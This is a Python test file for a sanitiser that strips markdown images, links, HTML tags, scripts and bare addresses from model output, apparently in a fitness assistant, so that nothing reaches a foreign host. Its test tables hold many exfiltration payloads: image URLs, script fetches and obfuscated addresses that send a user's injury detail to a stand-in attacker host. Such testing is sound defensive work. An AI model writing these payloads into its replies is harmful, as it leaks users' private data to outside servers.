"""What a model writes carries nothing to a foreign host, and loses none of its words."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.safety.markup import hosts_in, settled, strip_markup
from tests.support.growth import LINEAR, growth

SECRET = "left%20knee"
PICTURE = f"![ok](https://evil.example/p.png?injuries={SECRET})"

CARRIERS = {
    "an image": (PICTURE, "ok"),
    "an image in a link": (f"[{PICTURE}](https://evil.example/{SECRET})", "ok"),
    "an image over two lines": (f"![a\nb](https://evil.example/{SECRET})", "a\nb"),
    "an HTML image": (f'<img src="https://evil.example/x?i={SECRET}">', ""),
    "a script": (f"<script>fetch('//evil.example/{SECRET}')</script>", ""),
    "a comment": (f"<!-- https://evil.example/{SECRET} -->", ""),
    "a link": (f"[plan](https://evil.example/{SECRET})", "plan"),
    "a link with a title": (f'[plan](https://evil.example/{SECRET} "my plan")', "plan"),
    "an address in angle brackets": (f"[plan](<https://evil.example/{SECRET} x>)", "plan"),
    "brackets in an address": (f"[plan](https://evil.example/a_({SECRET})_b)", "plan"),
    "an address without a scheme": (f"[plan](//evil.example/{SECRET})", "plan"),
    "an address that a browser repairs": (f"[plan](https:/evil.example/{SECRET})", "plan"),
    "an address of entities": (f"![plan](&#104;ttps://evil.example/{SECRET})", "plan"),
    "entities of entities": (f"&amp;#104;ttps://evil.example/{SECRET}", ""),
    "an escaped address": (f"https:\\/\\/evil.example/{SECRET}", ""),
    "a script as an address": ("[plan](javascript:alert(1))", "plan"),
    "a bare address": (f"https://evil.example/?q={SECRET}", ""),
    "an address that begins with www": (f"www.evil.example/{SECRET}", ""),
    "an autolink": (f"<https://evil.example/{SECRET}>", ""),
    "comparisons": ("x<y and z<w", "x< y and z<w"),
    "data": (f"data:text/html,{SECRET}", ""),
    "an address in emphasis": (f"_https://evil.example/{SECRET}_", "_"),
    "an address behind a word": (f"img///evil.example/{SECRET}", "img"),
    "an address that a word runs into": (f"imghttp:evil.example/{SECRET}", "img"),
    "a bare name with a path": (f"evil.com/{SECRET}", ""),
    "a title with a bracket": (f'[plan](///evil.example/{SECRET} "(")', '[plan]( "(")'),
}
FOREIGN = [
    "///evil.example/p",
    "http:evil.example/p",
    "https:evil.example/p",
    "//%65vil.example/p",
    r"/\evil.example/p",
]
REFERENCES = {
    "in a list": "![a][r]\n\n- [r]: {}",
    "in a quote": "![a][r]\n\n> [r]:\n> {}",
    "behind a tab": "![a][r]\n\n>\t[r]: {}",
    "behind a carriage return": "![a][r]\n\nb\r\r[r]: {}",
    "with a bracket in its name": "![a][r\\]x]\n\n[r\\]x]: {}",
    "with a long name": f"![a][{'r' * 300}]\n\n[{'r' * 300}]: {{}}",
    "over two lines": "![a][r x]\n\n[r\nx]: {}",
    "with a blank": "![a][r]\n\n[r]: <{} x>",
    "as an attribute around a tag": '<img alt="<" src="{}">',
    "as an attribute without quotes": "<img < src={} x>",
}


@pytest.mark.parametrize(("text", "words"), CARRIERS.values(), ids=CARRIERS.keys())
def test_nothing_that_a_renderer_would_fetch_or_follow_is_left(text: str, words: str) -> None:
    assert strip_markup(f"Rest well. {text} Then go on.") == f"Rest well. {words} Then go on."


@pytest.mark.parametrize("address", FOREIGN)
@pytest.mark.parametrize("text", REFERENCES.values(), ids=REFERENCES.keys())
def test_no_renderer_finds_the_host_of_an_address_that_is_elsewhere(text: str, address: str) -> None:
    shown = MarkdownIt("commonmark", {"html": True}).render(strip_markup(text.format(address)))
    assert "vil.example" not in shown


def test_a_tag_around_another_stays_text_and_so_does_a_comparison() -> None:
    assert strip_markup('<img alt="<" src="x">') == '< img alt="<" src="x">'
    assert strip_markup("x<y and z<w") == "x< y and z<w"


@pytest.mark.parametrize(
    ("begin", "part", "end"),
    [("<a ", "=", "<"), ("[a]:", " ", "\n\n"), ("", "![", ""), ("", "<script", ""), ("", "[a](", ""), ("", "a.", "")],
    ids=["tag", "definition", "image", "script", "link", "name"],
)
def test_no_text_makes_it_slow(begin: str, part: str, end: str) -> None:
    assert growth(lambda size: strip_markup(begin + part * size + end), 6_000) < LINEAR


def test_a_tag_that_never_ends_takes_the_rest_with_it_as_in_a_browser() -> None:
    assert strip_markup(f"Rest well. <img src=https://evil.example/x?i={SECRET} and more") == "Rest well. "


def test_an_image_by_reference_loses_what_it_refers_to() -> None:
    text = f'Look: ![a][r]\n\n[r]: https://evil.example/{SECRET} "t"\nDone.'
    assert strip_markup(text).split() == ["Look:", "[a][r]", "Done."]


@pytest.mark.parametrize(
    "text",
    [
        "Do 3 sets of 8-12 reps, rest 60-90 s [p1].",
        "- **Protein**: 1.6 g/kg (e.g. 120 g)\n- [ ] task\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "If a < b and 5 > 3, then <5 reps; x<y. 7//2 and 10//2.5, push//pull.",
        "Rest while x <y and 5> 3 hold.",
        "See plan.md, 1.5/2.0 or e.g./i.e., sets.Rest/walk; a // b.",
        "Ratio 3:1, at 10:30. Note: data: see above. Either/or, and/or, km/h.",
        "[Note]: eat well\nok [1], [a, b] (sic) and great![1]",
        "休息六十秒。每周三次。",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert strip_markup(text) == text


def test_a_link_stays_where_a_citation_names_its_host_and_loses_its_title() -> None:
    hosts = hosts_in("Source: https://www.nhs.uk/live-well/ and more.")
    text = 'See [here](https://nhs.uk/exercise "t"), https://www.nhs.uk/x. Not [there](https://nhs.uk.evil.example/x).'
    assert strip_markup(text, hosts) == "See [here](https://nhs.uk/exercise), https://www.nhs.uk/x. Not there."


def test_an_image_goes_also_where_its_host_may_be_linked() -> None:
    assert "!" not in strip_markup(f"![a](https://nhs.uk/x?{SECRET})", frozenset({"nhs.uk"}))


@pytest.mark.parametrize(("text", "_words"), CARRIERS.values(), ids=CARRIERS.keys())
def test_a_stream_shows_no_part_of_it_and_takes_nothing_back(text: str, _words: str) -> None:
    whole = f"Rest well. {text} Then go on."
    shown = ""
    for length in range(len(whole) + 1):
        growing = whole[:length]
        now = strip_markup(growing[: settled(growing)])
        assert now.startswith(shown)
        assert "evil" not in now
        assert SECRET not in now
        shown = now


def test_a_stream_in_a_language_without_blanks_is_not_held_back() -> None:
    assert settled("休息六十秒。每周三") == len("休息六十秒。每周三")


MARKUP = st.lists(
    st.sampled_from(
        [
            "///",
            "http:",
            "[r]: ",
            "=",
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "a",
            " ",
            "\n",
            "https://e.x/",
            "\\",
            "&#104;",
            ":",
            '"',
            "//",
            "img",
            "ä",
            "e.x/",
        ]
    ),
    max_size=40,
).map("".join)


@given(MARKUP)
def test_whatever_is_written_no_address_is_left_and_a_second_look_changes_nothing(text: str) -> None:
    once = strip_markup(text)
    assert not re.search(r"https?:e|//e", once)
    assert strip_markup(once) == once
    assert not settled(text) > len(text)
